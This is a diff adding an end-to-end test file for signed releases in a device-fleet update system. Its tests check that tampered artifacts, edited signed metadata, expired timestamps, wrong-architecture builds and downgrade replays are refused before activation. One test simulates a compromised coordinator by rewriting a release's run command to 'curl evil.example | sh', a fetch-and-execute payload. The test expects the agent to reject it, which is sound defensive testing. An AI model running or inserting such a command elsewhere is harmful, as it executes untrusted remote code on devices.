@@ -1,0 +1,184 @@
+/**
+ * Signed releases end to end: real coordinator, CLI and agent processes. Every refusal must
+ * happen before the agent activates anything (and, where the artifact is not at fault, before it
+ * downloads anything): the tests check the steps the device reported and its staging directory.
+ */
+import { readdir, readFile, stat, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { Sandbox, waitFor } from "./harness.ts";
+import { artifact, bundleAgent, createRelease, deviceReleases, sha256, signedFleet, tufDir, waitForEnd, type StepJson } from "./releases-harness.ts";
+
+let sb: Sandbox;
+beforeEach(() => {
+  sb = new Sandbox();
+});
+afterEach(async () => {
+  await sb.cleanup();
+});
+
+async function staged(stateDir: string): Promise<string[]> {
+  try {
+    return await readdir(join(stateDir, "releases", "staging"));
+  } catch {
+    return [];
+  }
+}
+
+const names = (steps: StepJson[]) => steps.map((s) => s.step);
+
+// These need an agent that declares `release:bundle`, i.e. the bundle activator. Until it is
+// merged they are listed as todo (not skipped); with it, this line becomes `const agentIt = it;`.
+const agentIt = it.todo as unknown as typeof it;
+
+describe("releases refused by the coordinator", () => {
+  it("refuses to deploy a kind the device does not declare", async () => {
+    const fleet = await signedFleet(sb);
+    const dir = await sb.dir();
+    const { path } = await artifact(dir, "agent.bin", 1000);
+    await createRelease(fleet, path, "flotilla-agent", "9.9.9", ["--kind", "agent"]);
+    const join0 = await fleet.joinToken(["--auto-approve"]);
+    fleet.startAgent(await sb.dir("flotilla-agent-"), join0);
+    const device = await waitFor("the device online", async () => (await fleet.devices()).find((d) => d.status === "online"));
+    const r = await fleet.admin(["device", "deploy", device.name, "flotilla-agent@9.9.9"]);
+    expect(r.code).not.toBe(0);
+    expect(r.stderr).toMatch(new RegExp(`^error: device ${device.name} cannot activate agent releases`, "m"));
+  });
+});
+
+describe("releases verified by the agent", () => {
+  agentIt("installs a release and reports each step with its time; device show prints current and desired", async () => {
+    const fleet = await signedFleet(sb);
+    const { name, stateDir } = await bundleAgent(fleet, sb);
+    const dir = await sb.dir();
+    const { path, data } = await artifact(dir, "app.tar.gz", 200_000);
+    await createRelease(fleet, path, "app", "1.0.0");
+    const deploy = await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
+    expect(deploy.code, deploy.stderr).toBe(0);
+
+    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
+    expect(names(steps)).toEqual(expect.arrayContaining(["checking", "downloading", "verifying", "activating", "healthy"]));
+    expect(names(steps).indexOf("verifying")).toBeLessThan(names(steps).indexOf("activating"));
+    const done = steps.filter((s) => s.step === "downloading").at(-1)!;
+    expect([done.bytesDone, done.bytesTotal]).toEqual([data.length, data.length]);
+    for (const s of steps) expect(Date.parse(s.time)).toBeGreaterThan(Date.now() - 600_000);
+
+    const show = await deviceReleases(fleet, name);
+    expect(show.releases).toEqual([
+      expect.objectContaining({ name: "app", current: { version: "1.0.0", counter: 1 }, desired: expect.objectContaining({ version: "1.0.0", counter: 1 }) }),
+    ]);
+    const text = await fleet.admin(["device", "show", name]);
+    expect(text.stdout).toContain("current 1.0.0 (#1), desired 1.0.0 (#1)");
+    expect(text.stdout).toMatch(/\d{4}-\d\d-\d\dT\S+Z {2}app\/1\/app\.tar\.gz {2}healthy/);
+    expect(await staged(stateDir)).toEqual([]);
+  });
+
+  agentIt("refuses an artifact altered in the coordinator's store after signing, before activating it", async () => {
+    const fleet = await signedFleet(sb);
+    const { name, stateDir } = await bundleAgent(fleet, sb);
+    const dir = await sb.dir();
+    const { path, data } = await artifact(dir, "app.tar.gz", 100_000);
+    await createRelease(fleet, path, "app", "1.0.0");
+    const stored = join(fleet.dataDir, "artifacts", "sha256", sha256(data));
+    const altered = Buffer.from(data);
+    altered[500] = altered[500]! ^ 0xff;
+    await writeFile(stored, altered);
+
+    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
+    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
+    const failed = steps.at(-1)!;
+    expect(failed.step).toBe("failed");
+    expect(failed.error).toContain(`does not match its signed sha256: expected ${sha256(data)}, got ${sha256(altered)}`);
+    expect(names(steps)).not.toContain("activating");
+    expect(await staged(stateDir)).toEqual([]);
+    expect((await deviceReleases(fleet, name)).releases[0]?.current).toBeNull();
+  });
+
+  agentIt("refuses targets metadata edited in the coordinator's data directory, before downloading", async () => {
+    const fleet = await signedFleet(sb);
+    const { name, stateDir } = await bundleAgent(fleet, sb);
+    const dir = await sb.dir();
+    const { path } = await artifact(dir, "app.tar.gz", 10_000);
+    await createRelease(fleet, path, "app", "1.0.0");
+    // A compromised coordinator changes what the release runs.
+    const file = join(await tufDir(fleet), "2.targets.json");
+    const text = await readFile(file, "utf8");
+    expect(text).toContain('"run": "bin/app"');
+    await writeFile(file, text.replace('"run": "bin/app"', '"run": "curl evil.example | sh"'));
+
+    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
+    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
+    expect(names(steps)).toEqual(["checking", "failed"]);
+    expect(steps[1]!.error).toMatch(/signed metadata check failed: .*targets was signed by 0\/1 keys/);
+    expect(await staged(stateDir)).toEqual([]);
+  });
+
+  agentIt("refuses expired timestamp metadata, before downloading", async () => {
+    const fleet = await signedFleet(sb, ["--tuf-timestamp-ttl-ms", "4000", "--tuf-refresh-ms", "3600000"]);
+    const { name, stateDir } = await bundleAgent(fleet, sb);
+    const dir = await sb.dir();
+    const { path } = await artifact(dir, "app.tar.gz", 10_000);
+    await createRelease(fleet, path, "app", "1.0.0");
+    const timestamp = JSON.parse(await readFile(join(await tufDir(fleet), "timestamp.json"), "utf8")) as { signed: { expires: string } };
+    await waitFor("the timestamp to expire", () => Date.now() > Date.parse(timestamp.signed.expires) + 1000, 20_000);
+
+    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
+    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
+    expect(names(steps)).toEqual(["checking", "failed"]);
+    expect(steps[1]!.error).toMatch(/timestamp.*expired|Expired/);
+    expect(await staged(stateDir)).toEqual([]);
+  });
+
+  agentIt("refuses a release for another architecture, before downloading", async () => {
+    const fleet = await signedFleet(sb);
+    const { name, stateDir } = await bundleAgent(fleet, sb);
+    const dir = await sb.dir();
+    const { path } = await artifact(dir, "app.tar.gz", 10_000);
+    await createRelease(fleet, path, "app", "1.0.0", ["--arch", "riscv64"]);
+    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
+    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz");
+    expect(names(steps)).toEqual(["checking", "failed"]);
+    expect(steps[1]!.error).toMatch(/is for riscv64, not /);
+    expect(await staged(stateDir)).toEqual([]);
+  });
+
+  agentIt("refuses a replayed older release once a newer one runs", async () => {
+    const fleet = await signedFleet(sb);
+    const { name } = await bundleAgent(fleet, sb);
+    const dir = await sb.dir();
+    await createRelease(fleet, (await artifact(dir, "app-1.tar.gz", 10_000)).path, "app", "1.0.0");
+    await createRelease(fleet, (await artifact(dir, "app-2.tar.gz", 10_000)).path, "app", "2.0.0");
+    await fleet.admin(["device", "deploy", name, "app@2.0.0"]);
+    expect((await waitForEnd(fleet, name, "app/2/app-2.tar.gz")).at(-1)!.step).toBe("healthy");
+
+    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
+    const steps = await waitForEnd(fleet, name, "app/1/app-1.tar.gz");
+    expect(names(steps)).toEqual(["checking", "failed"]);
+    expect(steps[1]!.error).toContain("refusing app 1.0.0 (#1): lower than the installed 2.0.0 (#2)");
+    expect((await deviceReleases(fleet, name)).releases[0]?.current).toEqual({ version: "2.0.0", counter: 2 });
+  });
+
+  agentIt("resumes the download after a kill -9 of the agent mid-download, and ends healthy", async () => {
+    const fleet = await signedFleet(sb);
+    const { agent, name, stateDir } = await bundleAgent(fleet, sb, ["--download-bytes-per-second", "1500000"]);
+    const dir = await sb.dir();
+    const { path, data } = await artifact(dir, "app.tar.gz", 6 * 1024 * 1024);
+    await createRelease(fleet, path, "app", "1.0.0");
+    await fleet.admin(["device", "deploy", name, "app@1.0.0"]);
+
+    const part = join(stateDir, "releases", "staging", `${sha256(data)}.part`);
+    await waitFor("a part of the download on disk", async () => (await stat(part)).size > 1024 * 1024, 30_000);
+    await agent.stop("SIGKILL");
+    const partial = (await stat(part)).size;
+    expect(partial).toBeLessThan(data.length);
+
+    fleet.startAgent(stateDir, undefined, ["--download-bytes-per-second", "1500000"], "agent-restarted");
+    const steps = await waitForEnd(fleet, name, "app/1/app.tar.gz", 90_000);
+    expect(steps.at(-1)!.step).toBe("healthy");
+    const downloads = steps.filter((s) => s.step === "downloading");
+    expect(downloads.filter((s) => s.bytesDone === 0)).toHaveLength(1);
+    expect(downloads.some((s) => s.bytesDone === partial)).toBe(true);
+    expect(names(steps).filter((s) => s === "checking")).toHaveLength(1);
+    expect(names(steps).filter((s) => s === "activating")).toHaveLength(1);
+  });
+});
